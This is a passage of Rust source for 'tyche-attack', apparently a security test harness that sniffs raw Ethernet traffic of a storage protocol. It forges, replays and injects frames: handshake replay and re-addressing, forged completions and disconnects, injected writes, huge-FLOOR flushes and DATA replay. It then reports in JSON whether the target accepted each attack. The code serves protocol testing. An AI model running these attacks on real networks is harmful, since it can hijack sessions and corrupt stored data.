        let age = challenged.map(|t| started.duration_since(t).as_secs_f64());
        v["observed"] = json!(format!(
            "{}; the captured challenge was {} old",
            self.replies_to(c.nonce, started),
            age.map_or_else(|| "?".to_string(), |a| format!("{a:.1} s"))
        ));
        v
    }

    /// (7) The kept CONNECT + PROOF re-addressed to the live session's id and channel `channel`.
    fn readdress(&self, tries: u32, channel: u16) -> Value {
        let (handshake, live) = {
            let s = self.lock();
            (s.handshake.clone(), s.live)
        };
        let (Some((c, challenged)), Some(live)) = (handshake, live) else {
            return json!({"attack": "readdress-connect", "tried": 0, "accepted": false, "evidence": [],
                "observed": "no handshake or live session was captured"});
        };
        let mut frame = c.bytes.clone();
        let m = ETH_HEADER_LEN;
        frame[m + layout::common::CHANNEL.start..m + layout::common::CHANNEL.end]
            .copy_from_slice(&channel.to_be_bytes());
        frame[m + layout::common::SESSION.start..m + layout::common::SESSION.end]
            .copy_from_slice(&live.0.to_be_bytes());
        // The proof does not name the host: take the live session's host id when it differs.
        let mut rewrote = false;
        {
            let s = self.lock();
            let live_nonce = s.chans.get(&live).and_then(|ch| ch.nonce);
            let live_host = s.connects.iter().rev().find(|k| Some(k.nonce) == live_nonce).and_then(|k| k.host);
            if let (Some(h), Some(mine)) = (live_host, c.host) {
                if h != mine {
                    let at = m + layout::connect::NAME + c.name_len;
                    frame[at..at + 16].copy_from_slice(&h);
                    rewrote = true;
                }
            }
        }
        let started = Instant::now();
        let mut v = self.run(
            "readdress-connect",
            tries,
            |_, _, _, _| Some(vec![frame.clone()]),
            |s, _, since| {
                s.replies
                    .iter()
                    .find(|r| r.kind == "ACCEPT" && r.nonce == c.nonce && r.at >= since && r.session == live.0)
                    .map(|r| {
                        format!(
                            "the target ACCEPTed the re-addressed CONNECT as channel {} of live session {:016x}",
                            r.channel, r.session
                        )
                    })
            },
        );
        let age = challenged.map(|t| started.duration_since(t).as_secs_f64());
        v["observed"] = json!(format!(
            "{}; the captured challenge was {} old{}",
            self.replies_to(c.nonce, started),
            age.map_or_else(|| "?".to_string(), |a| format!("{a:.1} s")),
            if rewrote { "; host id rewritten to the live session's" } else { "" }
        ));
        v
    }

    /// (2) A forged COMPLETION OK for each of the next requests seen in flight (fired by the
    /// capture thread the moment it sees the request); where none flows, for the last one seen.
    fn forge_completion(&self, tries: u32) -> Value {
        let (attack, started) = {
            let mut s = self.lock();
            let attack = s.new_attack();
            s.arm = Some(Arm { attack, remaining: tries, sent: 0, last: None });
            (attack, Instant::now())
        };
        let deadline = started + Duration::from_millis(u64::from(tries) * 20 + 2000);
        let mut fallback = 0u64;
        loop {
            let now = Instant::now();
            let idle = {
                let mut s = self.lock();
                s.sweep(now);
                let arm = s.arm.as_ref().expect("armed");
                if arm.remaining == 0 || s.accepted(attack) {
                    break;
                }
                arm.last.unwrap_or(started) + Duration::from_millis(200) < now
            };
            if now >= deadline || idle {
                // No requests to answer: forge for the last request seen, in turn.
                let mut s = self.lock();
                let Some(key) = s.live else { break };
                let Some(ch) = s.chans.get(&key) else { break };
                let Some((&remq, f)) = ch.inflight.iter().next() else { break };
                let r = Request {
                    seq: Seq::default(),
                    op: Op::Read,
                    fua: false,
                    remq,
                    damq: f.damq,
                    home: key.1,
                    tag: f.tag,
                    floor: 0,
                    offset: 0,
                    length: 512,
                };
                if let Some(arm) = s.arm.as_mut() {
                    arm.last = None;
                }
                s.fire_completion(key, &r, now);
                fallback += 1;
                drop(s);
                std::thread::sleep(self.spacing());
                continue;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        let settle = Instant::now() + Duration::from_millis(self.args.settle_ms);
        while Instant::now() < settle {
            let mut s = self.lock();
            s.sweep(Instant::now());
            if s.accepted(attack) && !s.pending() {
                break;
            }
            drop(s);
            std::thread::sleep(Duration::from_millis(2));
        }
        let sent = {
            let mut s = self.lock();
            s.arm.take().map_or(0, |a| a.sent)
        };
        let note = (fallback > 0).then(|| format!("{fallback} forged for the last requests seen (no new ones came)"));
        self.result("forge-completion", attack, u64::from(sent), started, note)
    }

    /// A `remq` and (when `damq`) a `damq` slot not in flight on `key`, from the top.
    fn free_slots(s: &State, key: (u64, u16), p: &ChannelParams, i: u32) -> (u16, u16) {
        let ch = &s.chans[&key];
        let busy_r: HashSet<u16> = ch.inflight.keys().copied().collect();
        let busy_d: HashSet<u16> = ch.inflight.values().map(|f| f.damq).collect();
        let pick = |n: u16, busy: &HashSet<u16>| {
            (0..n).rev().filter(|x| !busy.contains(x)).nth((i % 4) as usize).unwrap_or(n - 1)
        };
        (pick(p.remq_slots, &busy_r), pick(p.damq_slots, &busy_d))
    }

    /// (1) Injected WRITE requests, each with its DATA.
    fn inject_write(&self, tries: u32) -> Value {
        let Some((_, p)) = self.live() else { return self.nothing("inject-write") };
        let len = (p.segment as u32).min(4096).min(p.max_io);
        let offset_base = self.args.inject_offset;
        let payload: Vec<u8> = MARKER.iter().copied().cycle().take(len as usize).collect();
        let ahead = self.args.ahead;
        self.run(
            "inject-write",
            tries,
            |s, attack, i, now| {
                let key = s.live?;
                let p = s.chans.get(&key)?.params?;
                let (remq, damq) = Self::free_slots(s, key, &p, i);
                let (max_tag, floor) = s.tags.get(&key.0).copied().unwrap_or((0, 0));
                let tag = max_tag + TAG_JUMP + u64::from(i);
                let ch = &s.chans[&key];
                let pos = ch.to_t.next().wrapping_add(ahead);
                let ack = ch.to_t.ack;
                let r = Request {
                    seq: Seq { seq: pos, ack },
                    op: Op::Write,
                    fua: false,
                    remq,
                    damq,
                    home: key.1,
                    tag,
                    floor,
                    offset: offset_base + u64::from(i % 256) * u64::from(len),
                    length: len,
                };
                let d = Data {
                    header: DataHeader {
                        seq: Seq { seq: pos.wrapping_add(1), ack },
                        damq,
                        seg_index: 0,
                        seg_count: 1,
                        tag,
                        offset: 0,
                    },
                    payload: &payload,
                };
                let frames = vec![s.craft(key, true, &Message::Request(r)), s.craft(key, true, &Message::Data(d))];
                s.injected.insert(tag, attack);
                s.forged(key, true, pos, attack, now);
                s.forged(key, true, pos.wrapping_add(1), attack, now);
                Some(frames)
            },
            |_, _, _| None,
        )
    }

    /// (4) FLUSH requests with a huge tag and FLOOR; accepted if answered, or if the target
    /// answers requests ABORTED from then on.
    fn huge_floor(&self, tries: u32) -> Value {
        let ahead = self.args.ahead;
        self.run(
            "huge-floor",
            tries,
            |s, attack, i, now| {
                let key = s.live?;
                let p = s.chans.get(&key)?.params?;
                let (remq, _) = Self::free_slots(s, key, &p, i);
                let tag = HUGE_FLOOR + u64::from(i);
                let ch = &s.chans[&key];
                let pos = ch.to_t.next().wrapping_add(ahead + i % 8);
                let r = Request {
                    seq: Seq { seq: pos, ack: ch.to_t.ack },
                    op: Op::Flush,
                    fua: false,
                    remq,
                    damq: NO_SLOT,
                    home: key.1,
                    tag,
                    floor: tag,
                    offset: 0,
                    length: 0,
                };
                let frame = s.craft(key, true, &Message::Request(r));
                s.injected.insert(tag, attack);
                s.forged(key, true, pos, attack, now);
                Some(vec![frame])
            },
            |s, _, since| {
                let (t, session, _, tag, _) = s
                    .completions
                    .iter()
                    .rev()
                    .take_while(|c| c.0 >= since)
                    .find(|c| c.4 == Status::Aborted && !s.injected.contains_key(&c.3))?;
                Some(format!(
                    "the target answered honest tag {tag} of session {session:016x} ABORTED {:.0} ms after the first huge FLOOR",
                    t.duration_since(since).as_secs_f64() * 1000.0
                ))
            },
        )
    }

    /// (3) Forged DISCONNECTs to one end of the live channel.
    fn disconnect(&self, tries: u32, to_target: bool) -> Value {
        let name = if to_target { "disconnect-target" } else { "disconnect-initiator" };
        let Some(key) = self.lock().live else { return self.nothing(name) };
        let reason = if to_target { DisconnectReason::Normal } else { DisconnectReason::Shutdown };
        let (init_frames0, target_frames0) = {
            let s = self.lock();
            let ch = &s.chans[&key];
            (ch.to_t.frames, ch.target_frames)
        };
        let first: Cell<Option<Instant>> = Cell::new(None);
        let at_first = Cell::new((init_frames0, target_frames0));
        self.run(
            name,
            tries,
            |s, _, _, now| {
                if first.get().is_none() {
                    first.set(Some(now));
                }
                Some(vec![s.craft(key, to_target, &Message::Disconnect(Disconnect { reason }))])
            },
            |s, _, since| {
                if let Some(&(t, session, channel)) = s.reconnects.iter().rev().find(|r| r.0 >= since) {
                    return Some(format!(
                        "the initiator connected again (session {session:016x} channel {channel}) {:.0} ms after the \
                         first forged DISCONNECT",
                        t.duration_since(since).as_secs_f64() * 1000.0
                    ));
                }
                if !to_target {
                    return None;
                }
                // The target silent on the channel while the initiator keeps sending (frames
                // the target had in flight when the first DISCONNECT went out are let pass).
                let t0 = first.get()?;
                let ch = s.chans.get(&key)?;
                let now = Instant::now();
                if now.duration_since(t0) < Duration::from_millis(5) {
                    at_first.set((ch.to_t.frames, ch.target_frames));
                    return None;
                }
                let (i0, t0_frames) = at_first.get();
                let init = ch.to_t.frames - i0;
                let target = ch.target_frames - t0_frames;
                (now.duration_since(t0) >= Duration::from_millis(400) && init >= 4 && target == 0).then(|| {
                    format!(
                        "the target went silent on channel {} of session {:016x}: 0 frames in {:.0} ms while the \
                         initiator sent {init}",
                        key.1,
                        key.0,
                        now.duration_since(t0).as_secs_f64() * 1000.0
                    )
                })
            },
        )
    }

    /// (5) Captured DATA frames, byte for byte: first those of earlier incarnations of the live
    /// channel whose sequence numbers fall just ahead in its window now, then the latest ones.
    fn replay_data(&self, tries: u32) -> Value {
        let Some(live) = self.lock().live else { return self.nothing("replay-data") };
        let mut queue: VecDeque<(u16, bool, u32, Vec<u8>)> = VecDeque::new();
        {
            let s = self.lock();
            // Every channel of the live session, the live one first.
            let mut chans: Vec<(u16, &Chan)> =
                s.chans.iter().filter(|(k, _)| k.0 == live.0).map(|(k, ch)| (k.1, ch)).collect();
            chans.sort_by_key(|(c, _)| (*c != live.1, *c));
            let mut recent: Vec<(u16, bool, u32, Vec<u8>)> = Vec::new();
            for (channel, ch) in chans {
                for (to_target, dir, olds) in [
                    (true, &ch.to_t, ch.old.iter().map(|o| &o.to_t).collect::<Vec<_>>()),
                    (false, &ch.to_i, ch.old.iter().map(|o| &o.to_i).collect::<Vec<_>>()),
                ] {
                    let next = dir.next();
                    let (lo, hi) = (next.wrapping_add(MARGIN + 2), next.wrapping_add(60));
                    for old in olds {
                        let fits = old.iter().filter(|(&q, _)| dist(q, lo) >= 0 && dist(q, hi) < 0);
                        queue.extend(fits.map(|(&q, b)| (channel, to_target, q, b.clone())));
                    }
                    recent
                        .extend(dir.data_last.iter().rev().take(64).map(|(q, b)| (channel, to_target, *q, b.clone())));
                    recent.extend(dir.data_first.iter().take(16).map(|(q, b)| (channel, to_target, *q, b.clone())));
                }
            }
            queue.extend(recent);
        }
        let smart = queue.len();
        let note = format!("{smart} captured DATA frames replayed in turn");
        let mut v = self.run(
            "replay-data",
            tries,
            |s, attack, i, now| {
                if queue.is_empty() {
                    return None;
                }
                let (channel, to_target, seq, bytes) = queue[i as usize % queue.len()].clone();
                s.forged((live.0, channel), to_target, seq, attack, now);
                Some(vec![bytes])
            },
            |_, _, _| None,
        );
        v["observed"] = json!(note);
        v
    }

    fn nothing(&self, name: &str) -> Value {
        json!({"attack": name, "tried": 0, "accepted": false, "evidence": [], "observed": "no live session seen"})
    }
}

fn main() -> ExitCode {
    let args = Args::parse();
    match run(args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("tyche-attack: {e}");
            ExitCode::FAILURE
        }
    }
}

fn run(args: Args) -> io::Result<()> {
    if args.ahead < MARGIN + 2 || args.ahead > 56 {
        return Err(io::Error::new(io::ErrorKind::InvalidInput, "--ahead must be 6..=56"));
    }
    let raw = Arc::new(Raw::open(&args.iface, args.ethertype, args.decoy)?);
    let state = Arc::new(Mutex::new(State {
        target: args.target,
        initiator: args.initiator,
        ethertype: args.ethertype,
        ahead: args.ahead,
        frames: 0,
        chans: HashMap::new(),
        tags: HashMap::new(),
        connects: Vec::new(),
        replies: Vec::new(),
        completions: VecDeque::new(),
        reconnects: Vec::new(),
        live: None,
        injected: HashMap::new(),
        replayed_nonces: HashSet::new(),
        handshake: None,
        evidence: Vec::new(),
        attacked: Vec::new(),
        arm: None,
        raw: raw.clone(),
    }));
    {
        let (raw, state) = (raw.clone(), state.clone());
        std::thread::Builder::new().name("capture".into()).spawn(move || {
            let mut buf = vec![0u8; 65536];
            loop {
                match raw.recv(&mut buf) {
                    Ok(Some(n)) => {
                        let now = Instant::now();
                        state.lock().unwrap_or_else(|e| e.into_inner()).observe(&buf[..n], now);
                    }
                    Ok(None) => state.lock().unwrap_or_else(|e| e.into_inner()).sweep(Instant::now()),
                    Err(e) => {
                        eprintln!("tyche-attack: capture: {e}");
                        return;
                    }
                }
            }
        })?;
    }
    let attacker = Attacker { state, raw, args };
    let stdin = io::stdin();
    let mut out = io::stdout().lock();
    writeln!(out, "{}", json!({"event": "ready"}))?;
    out.flush()?;
    for line in stdin.lock().lines() {
        let line = line?;
        let words: Vec<&str> = line.split_whitespace().collect();
        let num = |i: usize, d: f64| words.get(i).and_then(|w| w.parse::<f64>().ok()).unwrap_or(d);
        let tries = num(1, 300.0) as u32;
        let v = match words.first().copied() {
            None => continue,
            Some("quit") => break,
            Some("wait-handshake") => attacker.wait_handshake(num(1, 5.0)),
            Some("wait-live") => attacker.wait_live(num(1, 10.0)),
            Some("wait-traffic") => attacker.wait_traffic(num(1, 5.0)),
            Some("replay-connect") => attacker.replay_connect(tries),
            Some("readdress") => attacker.readdress(tries, num(2, 9.0) as u16),
            Some("forge-completion") => attacker.forge_completion(tries),
            Some("inject-write") => attacker.inject_write(tries),
            Some("disconnect-initiator") => attacker.disconnect(tries, false),
            Some("disconnect-target") => attacker.disconnect(tries, true),
            Some("replay-data") => attacker.replay_data(tries),
            Some("huge-floor") => attacker.huge_floor(tries),
            Some("status") => {
                let s = attacker.lock();
                let live = s.live.map(|(a, b)| format!("{a:016x}/{b}"));
                json!({"event": "status", "frames": s.frames, "live": live, "channels": s.chans.len()})
            }
            Some(other) => json!({"event": "error", "error": format!("unknown command {other}")}),
        };
        writeln!(out, "{v}")?;
        out.flush()?;
    }
    Ok(())
}
